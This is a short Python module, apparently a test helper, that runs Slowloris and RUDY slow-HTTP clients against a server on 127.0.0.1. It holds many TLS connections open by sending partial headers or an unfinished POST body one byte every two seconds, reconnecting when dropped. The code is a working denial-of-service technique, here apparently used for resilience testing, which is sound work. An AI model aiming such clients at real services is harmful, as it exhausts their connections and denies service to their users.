"""Clients that hold their connection as long as they can, a letter at a time (Slowloris, RUDY)."""

import asyncio
import ssl

HEAD = "GET /en/ HTTP/1.1\r\nHost: 127.0.0.1\r\nX-Slow: "
BODY = "POST {action} HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Length: 20000\r\n\r\n"
SECONDS_BETWEEN_LETTERS = 2


async def hold(port, trust, words, end):
    """Opens a connection and dribbles, again and again once it is shut, until `end`."""
    loop = asyncio.get_running_loop()
    while loop.time() < end:
        writer = None
        try:
            _reader, writer = await asyncio.open_connection("127.0.0.1", port, ssl=trust)
            writer.write(words)
            while loop.time() < end:
                writer.write(b"x")
                await writer.drain()
                await asyncio.sleep(SECONDS_BETWEEN_LETTERS)
        except (OSError, ssl.SSLError):
            await asyncio.sleep(SECONDS_BETWEEN_LETTERS)
        finally:
            if writer:
                writer.close()


async def _all(port, certificate, action, number, seconds):
    trust = ssl.create_default_context(cafile=certificate)
    end = asyncio.get_running_loop().time() + seconds
    kinds = [HEAD.encode(), BODY.format(action=action).encode()]
    await asyncio.gather(*(hold(port, trust, kinds[n % 2], end) for n in range(number)))


def clients(port, certificate, action, *, number, seconds):
    """So many of them for so many seconds, half in their head, half in their body."""
    asyncio.run(_all(port, certificate, action, number, seconds))
